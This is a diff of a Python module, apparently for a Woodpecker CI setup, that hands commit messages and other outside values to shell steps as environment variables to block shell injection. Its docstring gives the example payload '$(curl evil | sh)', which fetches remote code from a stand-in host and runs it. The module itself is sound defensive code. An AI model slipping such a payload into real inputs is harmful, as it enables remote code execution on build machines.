@@ -1,8 +1,8 @@
-"""Values from outside as part of a shell script, without ever becoming script themselves.
+"""Inserts values from outside into shell scripts without shell injection.
 
 A commit message is whatever its author wrote: ``$(curl evil | sh)`` too. Woodpecker pastes it into the commands. Here a
-value that could mean something to a shell reaches the step as an environment variable, and the script gets ``${NAME}``
-in its place. What the user sees is the same; what an attacker gets is text.
+value that could mean something to a shell reaches the step as an environment variable, and the script has ``${NAME}``
+in its place. The user sees the same output; an attacker's code stays text.
 """
 
 import re
@@ -11,14 +11,14 @@ from dataclasses import dataclass
 from typing import NamedTuple
 
 OPEN, CLOSE = "\ue000", "\ue001"
-"""Enclose the number of a value from outside, from the substitution until the YAML is read."""
+"""Enclose the number of a value from outside: its placeholder in the text until the YAML has been read."""
 
-_MARK = re.compile(f"{OPEN}([0-9]+){CLOSE}")
+_PLACEHOLDER = re.compile(f"{OPEN}([0-9]+){CLOSE}")
 _SHELL_SAFE = re.compile(r"[A-Za-z0-9_./:@%+,-]*")
 
 
 class OutsideValue(NamedTuple):
-    """A value that somebody else chose. ``variable`` names the environment variable that carries it, or is empty."""
+    """A value that is not from the file. ``variable`` is the environment variable that carries it, or empty."""
 
     variable: str
     value: str
@@ -32,25 +32,25 @@ class ShellText:
     values: tuple[tuple[str, str], ...]
 
 
-def reveal(text: str, outside: Sequence[OutsideValue]) -> str:
-    """``text`` with the values in place of their marks."""
-    return _MARK.sub(lambda mark: outside[int(mark[1])].value, text)
+def insert_values(text: str, outside: Sequence[OutsideValue]) -> str:
+    """``text`` with every placeholder replaced by its value."""
+    return _PLACEHOLDER.sub(lambda placeholder: outside[int(placeholder[1])].value, text)
 
 
 def shell_text(text: str, outside: Sequence[OutsideValue]) -> ShellText:
-    """``text`` as a part of a script: marks become ``${NAME}``, or the value itself where no shell can misread it."""
+    """``text`` as part of a script: each placeholder becomes ``${NAME}``, or its value if that is safe in a shell."""
     parts: list[str] = []
     values: dict[str, str] = {}
     quote = ""
     end = 0
-    for mark in _MARK.finditer(text):
-        between = text[end : mark.start()]
+    for placeholder in _PLACEHOLDER.finditer(text):
+        between = text[end : placeholder.start()]
         quote = _quote_after(between, quote)
-        found = outside[int(mark[1])]
+        found = outside[int(placeholder[1])]
         parts += [between, _reference(found, quote)]
         if not _is_safe(found):
             values[found.variable] = found.value
-        end = mark.end()
+        end = placeholder.end()
     return ShellText("".join([*parts, text[end:]]), tuple(values.items()))
 
 
@@ -65,7 +65,7 @@ def _reference(found: OutsideValue, quote: str) -> str:
     return f"'\"${{{found.variable}}}\"'" if quote == "'" else f"${{{found.variable}}}"
 
 
-# What may change the state of quoting: inside of nothing, of single and of double quotes.
+# Tokens that may change the quoting state: outside of quotes, in single quotes, in double quotes.
 _QUOTING = {
     "": re.compile(r"""\\.|(?:^|(?<=[\s;&|(]))\#[^\n]*|['"]""", re.DOTALL),
     "'": re.compile("'"),
@@ -74,7 +74,7 @@ _QUOTING = {
 
 
 def _quote_after(text: str, quote: str) -> str:
-    """The quote that is open at the end of ``text``. A wrong guess (here-documents) spoils looks, never safety."""
+    """The quote that is open at the end of ``text``. A wrong guess (here-documents) spoils the output, never safety."""
     end = 0
     while token := _QUOTING[quote].search(text, end):
         end = token.end()
